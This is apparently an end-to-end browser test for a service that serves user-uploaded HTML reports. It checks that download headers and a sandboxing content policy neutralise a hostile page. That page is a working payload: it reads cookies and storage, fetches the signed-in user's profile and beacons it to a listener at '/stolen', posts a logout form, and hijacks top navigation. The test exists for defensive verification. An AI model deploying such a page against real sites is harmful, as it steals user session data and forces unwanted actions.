import { once } from 'node:events';
import { createServer, type IncomingMessage, type RequestListener, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo, Socket } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { formOf, postForm, type ReportJson } from '../e2e/scenarios/report-form.js';
import { RepositoryScenario } from '../e2e/scenarios/repository-scenario.js';
import { type UserSession, signIn } from '../support/user-session.js';
import { TestEnvironment } from '../support/test-environment.js';
import { CHROMIUM, launchChromium } from './chromium.js';

const VERSION = 'v1.0.0';
/** Longer than any allowed action of the page takes. */
const AFTERMATH_MS = 500;

/** A page that tries everything. Each success is visible in its title or at the listener. */
const hostile = (listener: string): string => `<!doctype html>
<html><head>
<title>untouched</title>
<meta http-equiv="refresh" content="3;url=${listener}/refresh">
<link rel="stylesheet" href="${listener}/style.css">
<link rel="preload" as="script" href="${listener}/preload.js">
<link rel="prefetch" href="${listener}/prefetch">
<link rel="icon" href="${listener}/icon.png">
<style>@import url("${listener}/import.css"); body { background: url("${listener}/background.png"); color: rgb(1, 2, 3) }</style>
<script src="${listener}/script.js"></script>
<script type="module">import "${listener}/module.js";</script>
<script>
  document.title = 'ran';
  try { document.title += ' cookie:' + document.cookie; } catch (error) { document.title += ' no-cookie'; }
  try { document.title += ' storage:' + localStorage.length; } catch (error) { document.title += ' no-storage'; }
  try { document.title += ' parent:' + parent.document.title; } catch (error) { document.title += ' no-parent'; }
  fetch('/api/auth/me', { credentials: 'include' }).then((answer) => answer.text()).then((text) => {
    new Image().src = '${listener}/stolen?' + encodeURIComponent(text);
  }).finally(() => setTimeout(() => { top.location = '${listener}/top'; }, 500));
  navigator.sendBeacon('${listener}/beacon', 'x');
  new WebSocket('${listener.replace('http', 'ws')}/socket');
</script>
</head>
<body onload="document.title = 'onload'">
<img src="${listener}/image.png" onerror="document.title = 'onerror'">
<svg><image href="${listener}/svg.png"/><animate onbegin="document.title = 'onbegin'" attributeName="x" dur="1s"/></svg>
<iframe src="${listener}/frame"></iframe>
<iframe srcdoc="<script>parent.document.title = 'srcdoc'</script>"></iframe>
<object data="${listener}/object"></object>
<embed src="${listener}/embed">
<video src="${listener}/video" autoplay></video>
<form id="f" action="/api/auth/logout" method="post"><input autofocus onfocus="document.title = 'onfocus'"><button>Go</button></form>
<a href="javascript:document.title = 'link'">link</a>
<p id="shown">All green</p>
</body></html>`;

async function listening(answer: RequestListener): Promise<Server> {
  const server = createServer(answer).listen(0, '127.0.0.1');
  await once(server, 'listening');
  return server;
}

const urlOf = (server: Server): string => `http://127.0.0.1:${(server.address() as AddressInfo).port}`;

const inBrowser = CHROMIUM === null ? describe.skip : describe;
const title = 'a hostile report in the browser of a signed-in user';

inBrowser(CHROMIUM === null ? `${title} (skipped: no Chromium; name one in CHROMIUM)` : title, () => {
  let env: TestEnvironment;
  let listener: Server;
  let requested: string[];
  /**
   * Connections to the listener. Chromium opens one for a frame before it rejects the frame, and sends nothing over it.
   */
  let sockets: Socket[];
  let browser: Browser;
  let member: UserSession;
  let context: BrowserContext;
  /** A proxy between the browser and the service that changes headers. */
  let between: Server;
  let change: (headers: Headers) => void;
  let text: string;

  beforeAll(async () => {
    [env, browser] = await Promise.all([TestEnvironment.start({ BILLING: 'off' }), launchChromium()]);
    [requested, sockets] = [[], []];
    listener = await listening((request, response) => {
      requested.push(request.url ?? '');
      response.setHeader('Access-Control-Allow-Origin', '*').end();
    });
    listener.on('connection', (socket) => sockets.push(socket));
    const scenario = new RepositoryScenario(env, { name: 'payments' });
    scenario.repository.changeVisibility('public');
    scenario.milestone(VERSION);
    await env.install();
    const sha = scenario.commit();
    await env.waitUntilIdle();
    between = await listening((request, response) => void pass(request, response));
    const page = hostile(urlOf(listener));
    const form = formOf({ repo: 'payments', version: VERSION, pipeline: 'build' }, [
      { filename: 'index.html', content: page },
    ]);
    const { body } = await postForm(env, await scenario.run(sha).token(), form);
    const [report] = body['reports'] as readonly [ReportJson];
    text = urlOf(between) + new URL(report.url).pathname;
    member = await signIn(env, env.github.createUser({ login: 'mona' }));
    context = await browser.newContext({ acceptDownloads: true });
    const [name = '', value = ''] = member.cookie.split('=');
    await context.addCookies([{ name, value, url: urlOf(between), httpOnly: true, sameSite: 'Lax' }]);
  });
  afterAll(async () => {
    await browser.close();
    for (const server of [listener, between]) {
      server.closeAllConnections();
      server.close();
    }
    await env.stop();
  });

  async function pass({ url = '/', headers }: IncomingMessage, response: ServerResponse): Promise<void> {
    const answer = await fetch(env.baseUrl + url, { headers: { cookie: headers.cookie ?? '' } });
    const changed = new Headers(answer.headers);
    change(changed);
    response.setHeaders(changed).end(Buffer.from(await answer.arrayBuffer()));
  }

  const openPage = async (): Promise<Page> => {
    requested.length = 0;
    sockets.length = 0;
    change = () => undefined;
    return context.newPage();
  };

  it('is downloaded and not displayed', async () => {
    const page = await openPage();
    const [download] = await Promise.all([page.waitForEvent('download'), page.goto(text).catch(() => undefined)]);
    expect(download.suggestedFilename()).toBe('index.html');
    expect(page.url()).toBe('about:blank');
    expect(requested).toEqual([]);
    await page.close();
  });

  it('runs no script, reads nothing and contacts no server, even if it is displayed', async () => {
    const page = await openPage();
    change = (headers) => headers.set('content-disposition', 'inline');
    const violations: string[] = [];
    page.on('console', (message) => violations.push(message.text()));
    await page.goto(text, { waitUntil: 'load' });
    expect(await page.locator('#shown').innerText()).toBe('All green');
    await page.locator('button').click();
    await page.locator('a').click();
    await page.waitForTimeout(3_000 + AFTERMATH_MS);
    expect([await page.title(), page.url()]).toEqual(['untouched', text]);
    expect(await page.evaluate('getComputedStyle(document.body).color')).toBe('rgb(0, 0, 0)');
    expect([requested, sockets.reduce((sum, { bytesRead }) => sum + bytesRead, 0)]).toEqual([[], 0]);
    expect(violations.filter((line) => line.includes('sandboxed')).length).toBeGreaterThan(0);
    // The form in it would have signed the user out.
    expect((await member.get('/api/auth/me')).status).toBe(200);
    await page.close();
  });

  it('has an opaque origin if it is displayed', async () => {
    const page = await openPage();
    change = (headers) => headers.set('content-disposition', 'inline');
    await page.goto(text);
    expect(await page.evaluate('self.origin')).toBe('null');
    const rejection = (what: string): Promise<unknown> =>
      page.evaluate(`(() => { try { return ${what}; } catch (error) { return error.name; } })()`);
    expect([await rejection('document.cookie'), await rejection('localStorage.length')]).toEqual([
      'SecurityError',
      'SecurityError',
    ]);
    await page.close();
  });

  it('does all of that without the policy, which proves that the policy prevents it', async () => {
    const page = await openPage();
    change = (headers) => {
      for (const name of ['content-disposition', 'content-security-policy', 'x-frame-options']) headers.delete(name);
    };
    await page.goto(text).catch(() => undefined);
    for (let tries = 0; tries < 600 && !requested.some((url) => url.startsWith('/stolen')); tries += 1) {
      await page.waitForTimeout(50);
    }
    expect(requested).toEqual(expect.arrayContaining(['/style.css', '/image.png']));
    expect(requested.find((url) => url.startsWith('/stolen'))).toContain('mona');
    await page.close();
  });
});
